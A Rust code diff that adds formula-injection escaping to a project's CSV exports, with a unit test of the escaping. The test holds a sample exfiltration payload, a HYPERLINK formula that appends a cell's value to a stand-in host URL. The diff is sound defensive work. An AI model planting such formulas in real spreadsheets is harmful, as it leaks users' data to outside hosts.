@@ -3,7 +3,7 @@
 
 use super::count::{Count, background_count};
 use super::vouchers::Voucher;
-use crate::model::{Day, Money};
+use crate::model::{Day, Money, starts_like_formula};
 use crate::pay::hours_text;
 use chrono::{DateTime, Utc};
 
@@ -86,24 +86,64 @@ pub fn voucher_fields(day: &Day, v: &Voucher) -> Vec<String> {
     ]
 }
 
-fn writer() -> csv::Writer<Vec<u8>> {
-    csv::WriterBuilder::new()
-        .terminator(csv::Terminator::CRLF)
-        .from_writer(Vec::new())
+/// `cell` as a spreadsheet shows text: a leading `'` before a formula
+/// character, so `=HYPERLINK(...)` opens as the text it is.
+pub fn formula_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if starts_like_formula(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
 }
 
-fn finish(w: csv::Writer<Vec<u8>>) -> Vec<u8> {
-    w.into_inner().expect("writing to memory cannot fail")
+/// The one way the project writes CSV: CRLF lines, every cell made
+/// formula-safe ([`formula_safe`]), in memory.
+pub struct SafeCsv(csv::Writer<Vec<u8>>);
+
+impl SafeCsv {
+    pub fn new() -> SafeCsv {
+        SafeCsv(
+            csv::WriterBuilder::new()
+                .terminator(csv::Terminator::CRLF)
+                .from_writer(Vec::new()),
+        )
+    }
+
+    pub fn row<I, S>(&mut self, cells: I)
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        let cells: Vec<_> = cells
+            .into_iter()
+            .map(|c| formula_safe(c.as_ref()).into_owned())
+            .collect();
+        self.0
+            .write_record(&cells)
+            .expect("writing CSV to memory cannot fail");
+    }
+
+    pub fn into_bytes(self) -> Vec<u8> {
+        self.0
+            .into_inner()
+            .expect("writing CSV to memory cannot fail")
+    }
+}
+
+impl Default for SafeCsv {
+    fn default() -> Self {
+        SafeCsv::new()
+    }
 }
 
 /// `vouchers-<date>.csv`.
 pub fn vouchers_csv(day: &Day, vouchers: &[Voucher]) -> Vec<u8> {
-    let mut w = writer();
-    w.write_record(VOUCHER_HEADER).expect("in memory");
+    let mut w = SafeCsv::new();
+    w.row(VOUCHER_HEADER);
     for v in vouchers {
-        w.write_record(voucher_fields(day, v)).expect("in memory");
+        w.row(voucher_fields(day, v));
     }
-    finish(w)
+    w.into_bytes()
 }
 
 fn count_fields(c: &Count) -> [String; 6] {
@@ -116,15 +156,37 @@ fn count_fields(c: &Count) -> [String; 6] {
 /// `background-count-<date>.csv`.
 pub fn count_csv(vouchers: &[Voucher]) -> Vec<u8> {
     let (lines, total) = background_count(vouchers);
-    let mut w = writer();
-    w.write_record(COUNT_HEADER).expect("in memory");
+    let mut w = SafeCsv::new();
+    w.row(COUNT_HEADER);
     for (category, union, count) in &lines {
         let mut row = vec![category.code().to_string(), union.code().to_string()];
         row.extend(count_fields(count));
-        w.write_record(&row).expect("in memory");
+        w.row(&row);
     }
     let mut row = vec!["total".to_string(), String::new()];
     row.extend(count_fields(&total));
-    w.write_record(&row).expect("in memory");
-    finish(w)
+    w.row(&row);
+    w.into_bytes()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_characters_open_as_text() {
+        for bad in ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(formula_safe(bad), format!("'{bad}"));
+        }
+        for fine in ["José", "O'Brien", "12.50", "06:30", ""] {
+            assert_eq!(formula_safe(fine), fine);
+        }
+        let mut w = SafeCsv::new();
+        w.row(["=HYPERLINK(\"http://x.example/?\"&A1)", "Ng"]);
+        let text = String::from_utf8(w.into_bytes()).unwrap();
+        assert_eq!(
+            text,
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",Ng\r\n"
+        );
+    }
 }
